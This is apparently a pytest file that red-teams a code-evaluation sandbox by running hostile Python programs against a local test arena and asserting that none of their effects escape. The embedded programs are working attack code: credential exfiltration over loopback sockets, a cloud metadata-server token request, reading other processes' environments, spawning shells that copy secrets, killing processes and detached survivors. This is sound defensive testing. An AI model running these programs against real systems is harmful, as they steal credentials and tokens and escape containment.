"""The evaluation sandbox against hostile programs, judged by effects outside it, and its olmes verdicts.

Red team (issue 24): each hostile program attacks a world the test builds outside the sandbox, an "arena": a
credentials file in a fake home, files to overwrite / unlink / rename / truncate, a drop directory where a leak
or a spawned shell would write, a loopback TCP listener (IPv4 and IPv6), a UDP socket, an abstract unix socket,
a decoy `sleep` process, and the scorer's own environment (a marker variable, read through /proc/<pid>/environ).
The arena is world-readable and -writable and the decoy belongs to the scorer's user, so only the sandbox
stands between a program and the harm. The scorer (tests/sandbox_redteam_driver.py) runs as the current user
(root on CI) and as an unprivileged user (uid 65534). After the run: the listeners received nothing, every file
is byte-identical, the drop directory is empty (also seconds later, when a setsid survivor would write), no
survivor process exists, the decoy lives, and no program saw the secret, the marker or an outside process.

The slow test runs the same programs with every layer switched off (backend none, MFT_JAX_SANDBOX_DISABLE=all
layers, --allow-unsandboxed-code) and asserts that the harms then happen: the checks can fail.

Controls: programs that are not hostile get olmes's verdicts (measured with olmes's code_execution_local.py:
passed / failed per program below), numpy included.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

from mft_jax.evaluate import sandbox

ROOT = Path(__file__).resolve().parents[1]
DRIVER = Path(__file__).parent / "sandbox_redteam_driver.py"
NOBODY = 65534
SURVIVOR_DELAY_S = 2  # the survivors write this long after the program returned; the test waits longer


# ----------------------------------------------------------------------------------------------------------
# The arena: what the programs attack
# ----------------------------------------------------------------------------------------------------------

class Arena:
    def __init__(self, owner: int | None):
        self.owner = owner  # uid of the scorer (None: the current user)
        self.token = uuid.uuid4().hex[:12]
        self.root = Path(tempfile.mkdtemp(prefix="mft_jax_redteam_"))
        self.root.chmod(0o755)
        self.secret = self.root / "home" / ".config" / "gcloud" / "credentials.json"
        self.secret.parent.mkdir(parents=True)
        for d in (self.root / "home", self.root / "home" / ".config", self.secret.parent):
            d.chmod(0o755)
        self.secret_text = f"SECRET-{self.token}"
        self.secret.write_text(self.secret_text)
        self.secret.chmod(0o644)
        self.drop = self.root / "drop"  # where leaks, spawned shells and survivors would write
        self.drop.mkdir()
        self.drop.chmod(0o777)
        self.victims = self.root / "victims"
        self.victims.mkdir()
        self.victims.chmod(0o777)
        for i in range(5):
            path = self.victims / f"keep{i}.txt"
            path.write_text(f"victim {i} {self.token}\n")
            path.chmod(0o666)
        self.snapshot = self.files()
        self.marker = f"MARKER-{self.token}"
        self.comm = f"srv{self.token[:8]}"  # a survivor's process name
        self.tcp4 = self._listener(socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1")
        self.tcp6 = self._listener(socket.AF_INET6, socket.SOCK_STREAM, "::1") if socket.has_ipv6 else None
        self.udp4 = self._listener(socket.AF_INET, socket.SOCK_DGRAM, "127.0.0.1")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix_name = f"mft_jax_redteam_{self.token}"
        self.unix.bind("\0" + self.unix_name)
        self.unix.listen(8)
        self.unix.setblocking(False)
        kwargs = {"user": owner, "group": owner, "extra_groups": []} if owner is not None else {}
        self.decoy = subprocess.Popen(["sleep", "600"], start_new_session=True, **kwargs)

    @staticmethod
    def _listener(family, kind, host):
        try:
            s = socket.socket(family, kind)
            s.bind((host, 0))
        except OSError:
            return None
        if kind == socket.SOCK_STREAM:
            s.listen(8)
        s.setblocking(False)
        return s

    def files(self) -> dict[str, bytes]:
        return {str(p.relative_to(self.root)): p.read_bytes() for p in sorted(self.root.rglob("*")) if p.is_file()}

    def received(self) -> list[str]:
        """What reached the listeners (connections or datagrams); empty when contained."""
        got = []
        for name, s in (("tcp4", self.tcp4), ("tcp6", self.tcp6), ("unix", self.unix)):
            if s is None:
                continue
            try:
                conn, _ = s.accept()
                conn.settimeout(1)
                got.append(f"{name} connection: {conn.recv(4096)!r}")
                conn.close()
            except (BlockingIOError, socket.timeout):
                pass
        if self.udp4 is not None:
            try:
                got.append(f"udp4 datagram: {self.udp4.recv(4096)!r}")
            except BlockingIOError:
                pass
        return got

    def survivors(self) -> list[int]:
        """Host processes named like the survivors."""
        found = []
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    if Path(f"/proc/{entry}/comm").read_text().strip() == self.comm:
                        found.append(int(entry))
                except OSError:
                    pass
        return found

    def close(self):
        for pid in self.survivors():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        if self.decoy.poll() is None:
            self.decoy.kill()
        self.decoy.wait()
        for s in (self.tcp4, self.tcp6, self.udp4, self.unix):
            if s is not None:
                s.close()
        shutil.rmtree(self.root, ignore_errors=True)


def hostile_programs(a: Arena) -> dict[str, str]:
    """One program per category of issue 24 (several attempts each); each tries to cause an effect outside."""
    secret, drop, victims = str(a.secret), str(a.drop), str(a.victims)
    tcp4 = a.tcp4.getsockname()[1]
    tcp6 = a.tcp6.getsockname()[1] if a.tcp6 is not None else 9
    udp4 = a.udp4.getsockname()[1]
    leak = f"""
def leak(name, data):
    try:
        with open({drop!r} + '/' + name, 'w') as f:
            f.write(str(data))
    except Exception:
        pass
def steal():
    try:
        return open({secret!r}).read()
    except Exception:
        return 'nothing'
"""
    return {
        "tcp_ipv4_exfiltration": leak + f"""
import socket
s = socket.create_connection(('127.0.0.1', {tcp4}), timeout=2)
s.sendall(steal().encode())
s.close()
""",
        "tcp_ipv6": leak + f"""
import socket
s = socket.create_connection(('::1', {tcp6}), timeout=2)
s.sendall(steal().encode())
""",
        "udp": leak + f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(steal().encode(), ('127.0.0.1', {udp4}))
""",
        "raw_socket_through_ctypes": leak + """
import ctypes
fd = ctypes.CDLL(None).socket(2, 1, 0)
assert fd >= 0, 'no socket'
leak('raw_socket', fd)
""",
        "metadata_server": leak + """
import socket, time
start = time.time()
try:
    s = socket.create_connection(('169.254.169.254', 80), timeout=3)
    s.sendall(b'GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.0\\r\\n'
              b'Metadata-Flavor: Google\\r\\n\\r\\n')
    leak('metadata', s.recv(4096))
except OSError as e:
    leak('metadata_error_after_%.1fs' % (time.time() - start), e)
    raise
""",
        "abstract_unix_socket": leak + f"""
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect('\\0{a.unix_name}')
s.sendall(steal().encode())
""",
        "read_credentials": leak + """
data = steal()
leak('secret', data)
raise Exception('secret: ' + data)
""",
        "read_parent_environment": leak + """
found = []
for pid in ({SCORER_PID}, 1, 2):
    try:
        env = open('/proc/%d/environ' % pid, 'rb').read()
    except Exception as e:
        continue
    if b'""" + a.marker + """' in env:
        found.append(pid)
leak('environ', found)
raise Exception('environ: %s %s' % (found, [open('/proc/%d/environ' % p, 'rb').read() for p in found]))
""",
        "write_outside": leak + f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for attempt in (lambda: open({victims!r} + '/keep0.txt', 'w').write('pwned'),
                lambda: open({victims!r} + '/created.txt', 'w').write('pwned'),
                lambda: libc.unlink(({victims!r} + '/keep1.txt').encode()),
                lambda: libc.rename(({victims!r} + '/keep2.txt').encode(), ({victims!r} + '/moved.txt').encode()),
                lambda: libc.truncate(({victims!r} + '/keep3.txt').encode(), 0),
                lambda: os.write(os.open({victims!r} + '/keep4.txt', os.O_WRONLY | os.O_TRUNC), b'x'),
                lambda: libc.symlink(b'/etc/passwd', ({victims!r} + '/link').encode())):
    try:
        attempt()
    except Exception:
        pass
""",
        "kill_other_process": leak + f"""
import ctypes, signal
libc = ctypes.CDLL(None)
libc.kill({a.decoy.pid}, signal.SIGKILL)
libc.kill(-{a.decoy.pid}, signal.SIGKILL)
""",
        "posix_spawn_shell": leak + f"""
import os
pid = os.posix_spawn('/bin/sh', ['sh', '-c', 'echo pwned > {drop}/posix_spawn; '
                     'cat {secret} > {drop}/posix_spawn_secret; kill -9 {a.decoy.pid}'], {{}})
os.waitpid(pid, 0)
""",
        "fork_exec_shell": leak + f"""
import _posixsubprocess, os
args = [b'/bin/sh', b'-c', b'echo pwned > {drop}/fork_exec; cat {secret} > {drop}/fork_exec_secret']
common = (args, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, *os.pipe(), False, False)
try:
    pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
except TypeError:
    pid = _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None)
os.waitpid(pid, 0)
""",
        "setsid_survivor": leak + f"""
import ctypes, os, time
libc = ctypes.CDLL(None)
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        libc.prctl(15, b'{a.comm}', 0, 0, 0)  # PR_SET_NAME
        time.sleep({SURVIVOR_DELAY_S})
        leak('survivor', 'alive')
        leak('survivor_secret', steal())
        time.sleep(120)  # and stays, to be seen (the test kills it when it is not contained)
    os._exit(0)
os.posix_spawn('/bin/sh', ['sh', '-c', 'sleep {SURVIVOR_DELAY_S}; echo alive > {drop}/survivor_sh'], {{}}, setsid=True)
""",
        "process_list": """
import os
seen = {}
for entry in os.listdir('/proc'):
    if entry.isdigit():
        try:
            seen[int(entry)] = open('/proc/%s/comm' % entry).read().strip()
        except Exception:
            pass
raise Exception('processes: %r' % sorted(seen.items()))
""",
    }


def _can_run_as(uid: int, exe: str) -> bool:
    try:
        return subprocess.run([exe, "-c", "pass"], user=uid, group=uid, extra_groups=[], cwd="/",
                              capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


def _interpreter(uid: int | None) -> str:
    """This interpreter, or where the user cannot run it (under /root), the system's python3."""
    if uid is None or _can_run_as(uid, sys.executable):
        return sys.executable
    for exe in ("/usr/bin/python3", shutil.which("python3") or ""):
        if exe and _can_run_as(uid, exe):
            return exe
    pytest.skip(f"no Python interpreter that uid {uid} may run")


def score(arena: Arena, programs: list[str], env_extra: dict | None = None, allow: bool = False) -> dict:
    """Runs the driver as the arena's owner with the marker in its environment; returns its JSON."""
    out = arena.root / "out.json"
    source = arena.root / "programs.json"
    source.write_text(json.dumps(programs))
    source.chmod(0o644)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(arena.root / "home"),
           "REDTEAM_MARKER": arena.marker, "TMPDIR": "/tmp"}
    for name in ("MFT_JAX_SANDBOX_DISABLE", "MFT_JAX_SANDBOX_BACKEND"):  # the diagnostic switches pass through
        if name in os.environ:
            env[name] = os.environ[name]
    env.update(env_extra or {})
    kwargs = {"user": arena.owner, "group": arena.owner, "extra_groups": []} if arena.owner is not None else {}
    code = _readable_code() if arena.owner is not None else None
    try:
        driver = DRIVER if code is None else code / "tests" / DRIVER.name
        run = subprocess.run([_interpreter(arena.owner), str(driver), str(source), str(out)]
                             + (["--allow-unsandboxed-code"] if allow else []), env=env, cwd=str(arena.root),
                             capture_output=True, text=True, timeout=300, **kwargs)
    finally:
        if code is not None:
            shutil.rmtree(code, ignore_errors=True)
    assert run.returncode == 0, run.stderr[-3000:]
    return json.loads(out.read_text())


def _readable_code() -> Path:
    """The driver and the sandbox's two modules copied where another user can read them: the checkout may lie
    below a directory only root may enter (/root, or mktemp's 0700 directories where CI clones)."""
    code = Path(tempfile.mkdtemp(prefix="mft_jax_redteam_code_"))
    sources = [DRIVER, ROOT / "mft_jax" / "evaluate" / "sandbox.py", ROOT / "mft_jax" / "evaluate" / "sandbox_child.py"]
    for source in sources:
        target = code / source.relative_to(ROOT)
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(source, target)
        target.chmod(0o644)
    for directory in [code, *[p for p in code.rglob("*") if p.is_dir()]]:
        directory.chmod(0o755)
    return code


def users() -> list:
    if os.geteuid() != 0:
        return [None]  # already unprivileged
    return [None, NOBODY]


@pytest.mark.parametrize("owner", users(), ids=lambda u: "current-user" if u is None else f"uid{u}")
def test_hostile_programs_are_contained(owner):
    arena = Arena(owner)
    try:
        if owner is not None:
            _arena_owned_by(arena, owner)
        programs = hostile_programs(arena)
        report = score(arena, list(programs.values()))
        outcomes = dict(zip(programs, report["outcomes"]))
        print(json.dumps(report["status"]), file=sys.stderr)
        time.sleep(SURVIVOR_DELAY_S + 2.5)  # a survivor would have written by now
        leaked = sorted(os.listdir(arena.drop))
        files_now = arena.files()
        changed = sorted(k for k in set(arena.snapshot) | set(files_now)
                         if k not in ("out.json", "programs.json") and arena.snapshot.get(k) != files_now.get(k))
        received = arena.received()
        survivors = arena.survivors()
        seen = outcomes["process_list"][1]
        outside_seen = [pid for pid in (arena.decoy.pid, os.getpid()) if f"({pid}, " in seen] + \
            (["sleep"] if "'sleep'" in seen else [])
        # Every effect is checked and all violations are reported together (one line each).
        violations = {
            "network reached the listeners": received,
            "written outside the sandbox": leaked,
            "files outside the sandbox changed": changed,
            "processes outlived the program": survivors,
            "decoy process killed": [] if arena.decoy.poll() is None else [arena.decoy.returncode],
            "secret or environment marker seen by a program": [
                name for name, (_, result) in outcomes.items()
                if arena.secret_text in result or arena.marker in result],
            "outside processes visible": outside_seen + ([seen[:200]] if seen.count(",") > 5 else []),
            "network attempts took": [round(report["seconds"], 1)] if report["seconds"] > 30 else [],
        }
        violations = {k: v for k, v in violations.items() if v}
        assert not violations, "\n".join(f"{k}: {v}" for k, v in violations.items())
        assert report["status"]["backend"] != "none" and "net_ns" in report["status"]["layers"], report["status"]
        # The programs whose last step needs the network or the secret failed at it (the shells and the
        # survivor run, inside; their effects are what the checks above judge).
        for name in ("tcp_ipv4_exfiltration", "tcp_ipv6", "udp", "raw_socket_through_ctypes", "metadata_server",
                     "abstract_unix_socket", "read_credentials", "read_parent_environment"):
            assert not outcomes[name][0], (name, outcomes[name])
        assert "secret: nothing" in outcomes["read_credentials"][1]
    finally:
        arena.close()


def _arena_owned_by(arena: Arena, uid: int) -> None:
    """The unprivileged scorer writes its results into the arena root."""
    os.chown(arena.root, uid, uid)


@pytest.mark.slow
def test_redteam_detects_harm_when_isolation_is_switched_off():
    """The same programs with every layer off: the harms happen, so the checks above can fail."""
    arena = Arena(None)
    try:
        programs = hostile_programs(arena)
        del programs["metadata_server"]  # unconfined on a cloud VM it would fetch a real token
        report = score(arena, list(programs.values()), allow=True, env_extra={
            "MFT_JAX_SANDBOX_BACKEND": "none", "MFT_JAX_SANDBOX_DISABLE": ",".join(sandbox.LAYERS)})
        # The harms, waited for (up to 20 s: a loaded machine delays the survivors). Of the two survivors one
        # must escape: the Python one forks with libc.fork(), outside Python's at-fork handlers, and its child
        # can hang on a lock the parent's threads held (seen once in CI), so it is not certain to write.
        expected = {"secret", "posix_spawn", "fork_exec", "raw_socket"}
        deadline = time.monotonic() + SURVIVOR_DELAY_S + 20
        while time.monotonic() < deadline:
            leaked = set(os.listdir(arena.drop))
            if expected <= leaked and {"survivor", "survivor_sh"} <= leaked:
                break
            time.sleep(0.5)
        assert report["status"]["backend"] == "none" and report["status"]["allow_unsandboxed_code"]
        assert expected <= leaked and {"survivor", "survivor_sh"} & leaked, leaked
        assert any("tcp4" in r for r in arena.received())
        assert arena.files() != arena.snapshot
        assert arena.decoy.poll() is not None  # killed
    finally:
        arena.close()


# ----------------------------------------------------------------------------------------------------------
# Controls: olmes's verdicts (code_execution_local.py run on these programs: passed True / False)
# ----------------------------------------------------------------------------------------------------------

CONTROLS = {
    "print('hello')\nassert 1 + 1 == 2": True,
    "import numpy as np\ndef f(x):\n    return int(np.sum(np.arange(x)))\nassert f(5) == 10": True,
    "from numpy import array\nassert array([1, 2]).sum() == 3": True,
    "import sys\nx = sys.stdin.read()": False,  # olmes's stdin raises on reads
    "x = input()": False,
    "with open('f.txt', 'w') as f:\n    f.write('x')\nassert open('f.txt').read() == 'x'": True,
    "import os\nos.popen('echo hi').read()": False,  # allowed by olmes, but it calls subprocess.Popen (None)
    "import shutil\nopen('a', 'w').write('x')\nshutil.copyfile('a', 'b')\nassert open('b').read() == 'x'": True,
    "import os, shutil\nos.mkdir('d')\nopen('d/a', 'w').write('x')\nshutil.copytree('d', 'e')": False,  # chmod
    "import os\nos.getcwd()": False,
    "import os\nos.chdir('.')": False,
    "import resource": False,
    "import psutil": False,
    "import joblib": False,
    "exit(0)": False,
    "import sys\nsys.exit(0)": False,
    "import os\nos._exit(0)": False,
    "import subprocess\nsubprocess.run(['true'])": False,
    "import sys\nsys.setrecursionlimit(100000)\ndef f(n):\n    return 0 if n == 0 else 1 + f(n - 1)\n"
    "assert f(20000) == 20000": True,
    "x = [0] * (100 * 1024 * 1024 // 8)\nassert len(x) == 13107200": True,  # a 100 MB list
    "assert __name__ == 'builtins'": True,
    "import collections, itertools, math, re, heapq, functools, json, hashlib, datetime, fractions\n"
    "assert math.gcd(12, 18) == 6 and re.sub('a', 'b', 'aa') == 'bb' and json.loads('[1]') == [1]": True,
    "import tempfile\nwith tempfile.TemporaryDirectory() as d:\n    pass": False,  # its cleanup calls os.rmdir
    "import os\nos.listdir('.')": True,
    "import threading\nr = []\nt = threading.Thread(target=lambda: r.append(1))\nt.start()\nt.join()\n"
    "assert r == [1]": True,
    "help(len)": False,
    "import os\nopen('a', 'w').close()\nos.remove('a')": False,
    "raise ValueError('x')": False,
    "def f(:\n  pass": False,
}


def test_verdicts_match_olmes_for_programs_that_are_not_hostile():
    outcomes = sandbox.run_programs(list(CONTROLS), sandbox.Limits(timeout_s=5))
    got = {program: outcome.passed for program, outcome in zip(CONTROLS, outcomes)}
    assert got == CONTROLS, [(p, o) for p, o in zip(CONTROLS, outcomes) if o.passed != CONTROLS[p]]
    assert outcomes[9].result == "TypeError: 'NoneType' object is not callable"  # os.getcwd, as olmes
    assert outcomes[11].result == "ModuleNotFoundError: import of resource halted; None in sys.modules"


def test_status_names_layers_and_refusal_is_one_line(monkeypatch):
    current = sandbox.status()
    assert current.backend in ("namespaces", "bubblewrap"), current
    assert {"user_ns", "mount_ns", "pid_ns", "net_ns", "no_new_privs", "rlimits"} <= set(current.layers)
    record = current.record()
    assert record["backend"] == current.backend and record["allow_unsandboxed_code"] is False
    monkeypatch.setenv("MFT_JAX_SANDBOX_BACKEND", "none")
    with pytest.raises(sandbox.SandboxUnavailable) as error:
        sandbox.require(False, "humaneval")
    message = str(error.value)
    assert "\n" not in message and "missing layer: user namespaces" in message
    assert "apt-get install bubblewrap" in message and "--allow-unsandboxed-code" in message
    allowed = sandbox.require(True)
    assert allowed.backend == "none" and allowed.record(True)["allow_unsandboxed_code"] is True
    assert sandbox.run_program("assert 1", sandbox.Limits(timeout_s=5), allow_unsandboxed_code=True).passed
    monkeypatch.setenv("MFT_JAX_SANDBOX_DISABLE", "net,bogus")
    with pytest.raises(sandbox.EvalError, match="unknown layers \\['bogus'\\]"):
        sandbox.status()


@pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap not installed")
def test_bubblewrap_backend_contains_too(monkeypatch):
    """The backend for machines where user namespaces need bubblewrap (Ubuntu 24.04): same view, same verdicts."""
    monkeypatch.setenv("MFT_JAX_SANDBOX_BACKEND", "bubblewrap")
    current = sandbox.status()
    assert current.backend == "bubblewrap" and "net_ns" in current.layers, current
    arena = Arena(None)
    try:
        programs = hostile_programs(arena)
        names = ["tcp_ipv4_exfiltration", "read_credentials", "write_outside", "kill_other_process",
                 "posix_spawn_shell", "process_list"]
        outcomes = sandbox.run_programs([programs[n] for n in names], sandbox.Limits(timeout_s=5))
        assert arena.received() == [] and os.listdir(arena.drop) == [] and arena.files() == arena.snapshot
        assert arena.decoy.poll() is None
        assert "sleep" not in outcomes[-1].result
        numpy_ok = sandbox.run_program("import numpy as np\nassert np.ones(3).sum() == 3", sandbox.Limits(timeout_s=5))
        assert numpy_ok.passed, numpy_ok
    finally:
        arena.close()


def test_eval_refuses_code_tasks_without_a_sandbox_before_the_model_loads(monkeypatch, tmp_path, capsys):
    from mft_jax import cli

    monkeypatch.setenv("MFT_JAX_SANDBOX_BACKEND", "none")
    with pytest.raises(SystemExit) as exit_info:  # the model path does not exist: nothing got that far
        cli.main(["eval", "--model", str(tmp_path / "no_model"), "--tasks", "humaneval", "--limit", "1"])
    err = capsys.readouterr().err
    assert exit_info.value.code == 2 and err.count("\n") == 1, err
    assert err.startswith("mft-jax eval: error: humaneval run model-written code, but no sandbox") and \
        "--allow-unsandboxed-code" in err
    # With the flag the task is built (the run then stops at the missing model, a different line).
    with pytest.raises(SystemExit):
        cli.main(["eval", "--model", str(tmp_path / "no_model"), "--tasks", "humaneval", "--limit", "1",
                  "--allow-unsandboxed-code"])
    err = capsys.readouterr().err
    assert "no sandbox" not in err and "no_model" in err, err
